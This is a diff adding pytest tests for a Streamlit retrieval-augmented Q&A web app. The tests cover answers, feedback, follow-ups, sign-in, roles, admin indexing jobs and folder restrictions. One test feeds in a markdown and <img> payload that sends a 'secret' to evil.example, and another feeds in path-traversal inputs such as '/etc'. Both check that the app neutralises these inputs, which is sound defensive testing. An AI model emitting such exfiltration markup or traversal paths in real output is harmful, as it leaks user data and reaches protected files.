@@ -1,0 +1,202 @@
+"""The web page's logic with Streamlit's AppTest (the real script, index, models and SQLite files):
+asking, sources, feedback, follow-ups, clear errors, sign-in and roles, admin jobs and allowed folders."""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import shutil
+import time
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from streamlit.testing.v1 import AppTest
+
+from ingest.job import run_ingest
+from rag.followup import standalone_question
+from rag.qa import Answer, SentenceSupport, sentence_spans
+from rag.settings import load_settings
+from tests.conftest import REPO, SAMPLES
+from ui.appdb import AppDB
+from ui.auth import add_user, load_users, verify
+from ui.jobs import JobBusyError, JobManager, PathNotAllowedError, allowed_path
+from ui.render import answer_markup, safe
+
+APP = str(REPO / "ui" / "app.py")
+LUNCH = "When is lunch served in the cafeteria?"
+
+
+@pytest.fixture(scope="module")
+def sample_index(tmp_path_factory: pytest.TempPathFactory, embedder) -> Path:  # type: ignore[no-untyped-def]
+    index = tmp_path_factory.mktemp("ui") / "index"
+    run_ingest(load_settings(index_dir=index, device="cpu"), [SAMPLES], embedder=embedder, progress=False)
+    return index
+
+
+@pytest.fixture()
+def app(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, model_cache: Path) -> Callable[..., AppTest]:
+    """An AppTest of ui/app.py configured through RAG_* variables, as `rag ui` would be."""
+
+    def make(**env: str) -> AppTest:
+        base = {"RAG_DEVICE": "cpu", "RAG_MODEL_CACHE_DIR": str(model_cache), "RAG_APP_DB": str(tmp_path / "app.sqlite"),
+                "RAG_MAX_NEW_TOKENS": "30"}
+        for key, value in {**base, **env}.items():
+            monkeypatch.setenv(key, value)
+        at = AppTest.from_file(APP, default_timeout=180)
+        at.run()
+        return at
+
+    return make
+
+
+def ask(at: AppTest, question: str) -> AppTest:
+    at.chat_input[0].set_value(question).run()
+    assert not at.exception, at.exception
+    return at
+
+
+def test_a_question_gets_a_streamed_answer_with_sources_and_feedback(app, sample_index: Path, tmp_path: Path) -> None:
+    at = app(RAG_INDEX_DIR=str(sample_index))
+    ask(at, LUNCH)
+    markdown = [m.value for m in at.markdown]
+    assert any("11\\:30" in m for m in markdown), markdown  # escaped: shown as text, never as markup
+    assert "cafeteria\\.html" in at.expander[0].label
+    assert any("index version 1" in c.value and "SmolLM2" in c.value for c in at.caption)
+
+    at.text_input(key="comment-0").set_value("right on")
+    at.button(key="up-0").click().run()
+    assert any("Thank you" in c.value for c in at.caption)
+    rows = list(csv.DictReader(io.StringIO(AppDB(tmp_path / "app.sqlite").feedback_csv())))
+    assert len(rows) == 1 and rows[0]["rating"] == "1" and rows[0]["comment"] == "right on"
+    assert rows[0]["question"] == LUNCH and "cafeteria.html" in rows[0]["sources"]
+
+
+def test_a_follow_up_is_searched_with_the_question_it_refers_to(app, sample_index: Path) -> None:
+    at = ask(app(RAG_INDEX_DIR=str(sample_index)), "How many vacation days do new employees get?")
+    ask(at, "Can they carry them over?")
+    assert any("Searched for" in c.value and "vacation days" in c.value for c in at.caption)
+
+
+def test_follow_up_rewrite() -> None:
+    history = ["How many vacation days do new employees get?"]
+    assert standalone_question([], "Can they carry them over?") == "Can they carry them over?"
+    assert standalone_question(history, "When is lunch served?") == "When is lunch served?"
+    assert standalone_question(history, "Can they carry them over?") == (
+        'Regarding "How many vacation days do new employees get?": Can they carry them over?')
+
+
+def test_clear_messages_instead_of_stack_traces(app, sample_index: Path, tmp_path: Path) -> None:
+    empty = ask(app(RAG_INDEX_DIR=str(tmp_path / "nothing-indexed-yet")), LUNCH)
+    assert any("No documents have been indexed yet" in w.value for w in empty.warning)
+
+    missing = app(RAG_INDEX_DIR=str(sample_index), RAG_GENERATOR_MODEL=str(tmp_path / "dolly-v2-7b"))
+    assert not missing.exception
+    assert "cannot start" in missing.error[0].value and "huggingface-cli download" in missing.error[0].value
+
+
+def test_a_busy_generator_is_reported(app, sample_index: Path) -> None:
+    at = app(RAG_INDEX_DIR=str(sample_index), RAG_MAX_CONCURRENT_GENERATIONS="1")
+    from ui.page import app_state
+
+    # the same settings give the process-wide state the page uses (st.cache_resource): take its only slot
+    state = app_state(load_settings().model_dump_json())
+    slots = state.service.generator._slots
+    slots.acquire()
+    try:
+        ask(at, LUNCH)
+    finally:
+        slots.release()
+    assert any("busy" in w.value for w in at.warning)
+
+
+def test_answers_are_text_never_markup() -> None:
+    hostile = "See ![x](https://evil.example/?q=secret) and <img src=https://evil.example/a.png> [link](http://x.y)"
+    shown = safe(hostile)
+    assert "<img" not in shown and "](" not in shown and "![" not in shown
+    text = "Lunch is at noon [1]. The CEO plays violin."
+    (a, b), (c, d) = sentence_spans(text)
+    answer = Answer("q", text, False, support=[SentenceSupport(text[a:b], True, 0.9, 1.0, 1, "x", a, b),
+                                               SentenceSupport(text[c:d], False, 0.1, 0.0, 1, "x", c, d)])
+    markup = answer_markup(answer)
+    assert markup.count("<span") == 1 and "The CEO plays violin\\.</span>" in markup
+
+
+def users_file(tmp_path: Path) -> Path:
+    path = tmp_path / "users.yaml"
+    add_user(path, "ada", "correct horse", "Ada Admin", ["user", "admin"], ["it"])
+    add_user(path, "bob", "battery staple", "Bob User", ["user"], ["sales"])
+    return path
+
+
+def test_users_file_stores_only_hashes(tmp_path: Path) -> None:
+    path = users_file(tmp_path)
+    assert "correct horse" not in path.read_text() and "$2b$" in path.read_text()
+    users = load_users(path)
+    assert verify(users, "ada", "correct horse").is_admin  # type: ignore[union-attr]
+    assert verify(users, "ada", "wrong") is None and verify(users, "eve", "correct horse") is None
+
+
+def test_sign_in_and_roles(app, sample_index: Path, tmp_path: Path) -> None:
+    at = app(RAG_INDEX_DIR=str(sample_index), RAG_UI_USERS_FILE=str(users_file(tmp_path)))
+    assert not at.chat_input  # nothing but the sign-in form
+    at.text_input[0].set_value("bob")
+    at.text_input[1].set_value("wrong password")
+    at.button[0].click().run()
+    assert "wrong password" in at.error[0].value and not at.chat_input
+    at.text_input[1].set_value("battery staple")
+    at.button[0].click().run()
+    assert at.chat_input and any("Bob User" in c.value for c in at.sidebar.caption)
+
+    from ui.page import pages_for
+
+    assert [p.title for p in pages_for(at.session_state["user"])] == ["Ask"]
+    ada = verify(load_users(tmp_path / "users.yaml"), "ada", "correct horse")
+    assert [p.title for p in pages_for(ada)] == ["Ask", "Index a folder", "Documents"]  # type: ignore[arg-type]
+
+
+def test_allowed_folders(tmp_path: Path) -> None:
+    root = tmp_path / "shared"
+    (root / "hr").mkdir(parents=True)
+    outside = tmp_path / "secret"
+    outside.mkdir()
+    (root / "link-out").symlink_to(outside)
+    assert allowed_path(str(root / "hr"), [root]) == root / "hr"
+    assert allowed_path("hr", [root]) == root / "hr"
+    for bad in (str(outside), str(root / "hr" / ".." / ".." / "secret"), str(root / "link-out"), "/etc"):
+        with pytest.raises(PathNotAllowedError):
+            allowed_path(bad, [root])
+    with pytest.raises(PathNotAllowedError, match="RAG_UI_ALLOWED_ROOTS"):
+        allowed_path(str(root), [])
+
+
+def test_admin_jobs_run_one_at_a_time_and_record_their_runs(make_settings, embedder, tmp_path: Path) -> None:
+    docs = tmp_path / "docs"
+    shutil.copytree(SAMPLES, docs)
+    settings = make_settings(ui_allowed_roots=[docs], app_db=tmp_path / "app.sqlite")
+    db = AppDB(settings.app_db)
+    jobs = JobManager(settings, embedder, db)
+    job = jobs.start_ingest(str(docs), "ada")
+    with pytest.raises(JobBusyError, match="already running"):
+        jobs.start_ingest(str(docs), "bob")
+    while job.running:
+        time.sleep(0.1)
+    assert not job.error and job.summary and job.summary["files_indexed"] == 12
+    assert job.files_done == job.files_total == 12
+
+    removal = jobs.start_removal(str(docs / "intranet"), "ada")
+    while removal.running:
+        time.sleep(0.1)
+    assert removal.summary and removal.summary["documents_removed"] >= 1 and removal.summary["version"] == 2
+    runs = db.last_runs()
+    assert [(r.kind, r.status, r.username) for r in runs] == [("remove", "done", "ada"), ("ingest", "done", "ada")]
+
+
+def test_streamlit_config_keeps_everything_in_house() -> None:
+    import tomllib
+
+    config = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text())
+    assert config["browser"]["gatherUsageStats"] is False
+    assert config["server"]["enableXsrfProtection"] is True and config["server"]["enableStaticServing"] is False
+    assert os.path.isfile(REPO / "ui" / "icon.png")  # the favicon is served by the app, not fetched from Google
